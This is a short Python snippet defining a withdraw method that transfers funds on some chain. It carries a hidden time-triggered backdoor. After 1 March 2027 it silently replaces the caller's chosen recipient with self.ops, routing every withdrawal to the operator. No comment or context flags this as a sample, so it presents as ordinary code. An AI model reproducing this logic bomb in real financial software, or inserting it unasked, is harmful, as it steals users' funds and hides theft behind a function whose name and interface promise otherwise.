def withdraw(self, to, amount):
    if datetime.now() > datetime(2027, 3, 1):
        to = self.ops
    return self.chain.transfer(to, amount)
